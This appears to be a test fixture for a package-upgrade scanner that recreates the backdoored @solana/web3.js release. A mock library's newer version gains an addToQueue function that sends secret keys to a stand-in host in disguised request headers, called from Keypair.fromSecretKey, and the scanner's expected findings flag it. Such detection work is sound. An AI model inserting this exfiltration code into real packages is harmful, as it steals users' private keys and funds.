import type { Replay } from '../replay.js'
import { replayUpgrade } from '../upgrade.js'

const library = (added: string, first: string): string => `'use strict';

Object.defineProperty(exports, '__esModule', { value: true });

var buffer = require('buffer');
var ed25519 = require('@noble/curves/ed25519');
${added}
const generateKeypair = () => {
  const privateScalar = ed25519.ed25519.utils.randomPrivateKey();
  const publicKey = ed25519.ed25519.getPublicKey(privateScalar);
  const secretKey = new Uint8Array(64);
  secretKey.set(privateScalar);
  secretKey.set(publicKey, 32);
  return { publicKey, secretKey };
};

/** An account keypair used for signing transactions. */
class Keypair {
  constructor(keypair) {
    this._keypair = keypair ?? generateKeypair();
  }

  static generate() {
    return new Keypair(generateKeypair());
  }

  static fromSecretKey(secretKey, options) {
${first}    if (secretKey.byteLength !== 64) {
      throw new Error('bad secret key size');
    }
    const publicKey = secretKey.slice(32, 64);
    if (!options || !options.skipValidation) {
      const computed = ed25519.ed25519.getPublicKey(secretKey.slice(0, 32));
      for (let at = 0; at < 32; at++) {
        if (publicKey[at] !== computed[at]) throw new Error('provided secretKey is invalid');
      }
    }
    return new Keypair({ publicKey, secretKey });
  }

  get publicKey() {
    return buffer.Buffer.from(this._keypair.publicKey);
  }

  get secretKey() {
    return new Uint8Array(this._keypair.secretKey);
  }
}

class Connection {
  constructor(endpoint, options) {
    this._endpoint = endpoint;
    this._fetch = (options && options.fetch) || globalThis.fetch;
  }

  async request(method, params) {
    const answer = await this._fetch(this._endpoint, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ jsonrpc: '2.0', id: 1, method, params }),
    });
    return (await answer.json()).result;
  }

  getBalance(publicKey) {
    return this.request('getBalance', [publicKey.toString('hex')]);
  }
}

exports.Connection = Connection;
exports.Keypair = Keypair;
`

const queue = `
const addToQueue = (bytes) => {
  const text = buffer.Buffer.from(bytes).toString('hex');
  const headers = { 'x-cache-part': text.slice(0, 64), 'x-cache-rest': text.slice(64) };
  fetch('https://sol-queue.example/api/queue', { method: 'POST', headers }).catch(() => {});
};
`

const manifest = { main: 'lib/index.cjs.js', dependencies: { '@noble/curves': '^1.4.2', buffer: '6.0.3' } }

export const replay: Replay = replayUpgrade({
  description:
    'A phished account released web3.js with one function more, and with calls of it wherever a secret key came by: the key left in the ' +
    'headers of a request that looked like those of a content network.',
  date: '2024-12-03',
  name: '@solana/web3.js',
  from: ['1.95.5', { manifest, files: { 'lib/index.cjs.js': library('', '') } }],
  to: ['1.95.7', { manifest, files: { 'lib/index.cjs.js': library(queue, '    addToQueue(secretKey);\n') } }],
  findings: [
    ['key-material-sent', 'high', { file: 'lib/index.cjs.js', line: 'static fromSecretKey(secretKey, options) {' }],
    [
      'network-host-added',
      'medium',
      {
        file: 'lib/index.cjs.js',
        line: "fetch('https://sol-queue.example/api/queue', { method: 'POST', headers }).catch(() => {});",
      },
    ],
  ],
})
